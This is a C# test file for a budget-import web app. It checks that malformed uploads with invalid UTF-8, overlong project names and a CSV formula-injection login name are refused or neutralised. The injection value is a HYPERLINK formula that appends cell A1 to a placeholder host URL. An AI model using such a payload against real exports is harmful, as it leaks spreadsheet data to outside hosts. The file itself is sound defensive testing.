using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;

namespace Jixiao.Web.Tests;

/// <summary>Input made to break things: a file of no one encoding on every upload, a formula as a login name that ends
/// up in the administrator's CSV.</summary>
public abstract partial class WebTests
{
    /// <summary>17 bytes: a UTF-8 BOM, valid UTF-8, then bytes that are not.</summary>
    private static readonly byte[] BomThenInvalid = [0xEF, 0xBB, 0xBF, 0xE9, 0xBB, 0xB1, 0xFF, 0xFE, 0xE5, 0xB7, 0xA5, 0xE4, 0xBD, 0x9C, 0x0A, 0x0A, 0xC3];

    private const string EncodingRefusal = "文件以 UTF-8 标记开头，但第 1 行含有不是 UTF-8 的字节";

    [SkippableFact]
    public async Task BrokenEncoding_IsRefusedNamingTheLine_ByTheImportApiThePageAndThePaymentsApi()
    {
        await using var app = await StartAsync();
        var admin = await Browser.SignedInAsync(app.Factory, Admin, JixiaoAppFactory.AdminPassword);
        var before = await app.Factory.QueryAsync(db => db.AuditEntries.CountAsync());

        foreach (var url in new[] { "/api/v1/import?fileName=bad.txt", "/api/v1/payments?fileName=bad.csv" })
        {
            var response = await admin.Client.PostAsync(url, new ByteArrayContent(BomThenInvalid) { Headers = { ContentType = new MediaTypeHeaderValue("application/octet-stream") } });
            Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
            Assert.Contains(EncodingRefusal, (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("detail").GetString(), StringComparison.Ordinal);
        }

        var page = await admin.GetOkAsync("/Import");
        var upload = new MultipartFormDataContent
        {
            { new StringContent(Browser.Token(page)), "__RequestVerificationToken" },
            { new ByteArrayContent(BomThenInvalid), "Files", "bad.txt" },
        };
        var html = WebUtility.HtmlDecode(await (await admin.Client.PostAsync("/Import?handler=Preview", upload)).Content.ReadAsStringAsync());
        Assert.Contains(EncodingRefusal, html, StringComparison.Ordinal);
        Assert.DoesNotContain("确认导入", html, StringComparison.Ordinal);
        Assert.Equal(before, await app.Factory.QueryAsync(db => db.AuditEntries.CountAsync()));
    }

    [SkippableFact]
    public async Task FormulaAsLoginName_IsTextInTheAdministratorsAuditCsv()
    {
        await using var app = await StartAsync();
        var formula = "=HYPERLINK(\"http://x.example/\"&A1,\"点此\")";
        await Browser.Anonymous(app.Factory).LoginAsync(formula, "wrong-password");
        var admin = await Browser.SignedInAsync(app.Factory, Admin, JixiaoAppFactory.AdminPassword);

        var csv = await admin.Client.GetStringAsync("/Audit?handler=Csv");
        Assert.Contains("\"'=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"点此\"\")\"", csv, StringComparison.Ordinal);
        Assert.DoesNotContain(",\"=HYPERLINK", csv, StringComparison.Ordinal);
    }

    [SkippableFact]
    public async Task OverlongProjectName_IsRefusedNamingTableAndCell_NothingStored()
    {
        await using var app = await StartAsync();
        var admin = await Browser.SignedInAsync(app.Factory, Admin, JixiaoAppFactory.AdminPassword);
        var text = DemoFile("02-").Replace("\t义务教育学校公用经费\n", "\t" + new string('校', 100_000) + "\n", StringComparison.Ordinal);

        var response = await admin.Client.PostAsync("/api/v1/import?fileName=long.txt", Upload(text));

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var problem = await response.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(("long.txt", 1), (problem.GetProperty("file").GetString(), problem.GetProperty("table").GetInt32()));
        Assert.True(problem.GetRawText().Length < 2000, "the answer does not repeat the overlong name");
        Assert.Contains("项目名称有 100000 个字符，超过 100 个字符的上限", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Equal("项目名称", problem.GetProperty("cell").GetString());
        Assert.Equal(0, await app.Factory.QueryAsync(db => db.ProjectVersions.CountAsync(v => v.Name.Length > 100)));
    }

    [SkippableFact]
    public async Task OverlongProjectName_FromTheEditForm_IsRefusedOnThePage_NotAServerError()
    {
        await using var app = await StartAsync();
        var admin = await Browser.SignedInAsync(app.Factory, Admin, JixiaoAppFactory.AdminPassword);
        var id = await app.Factory.ProjectIdAsync(BudgetProjectName);
        var edit = await admin.GetOkAsync($"/Projects/{id}/Edit");

        var saved = await admin.SubmitAsync($"/Projects/{id}/Edit", edit, "project-form", new Dictionary<string, string>
        {
            ["Form.Name"] = new string('校', 101),
            ["Command"] = "save",
        });

        Assert.NotEqual(HttpStatusCode.InternalServerError, saved.StatusCode);
        Assert.Contains("项目名称有 101 个字符，超过 100 个字符的上限", WebUtility.HtmlDecode(await saved.Content.ReadAsStringAsync()), StringComparison.Ordinal);
        Assert.Equal(1, await app.Factory.QueryAsync(db => db.Projects.Where(p => p.Id == id).Select(p => p.CurrentVersion).SingleAsync()));
    }
}
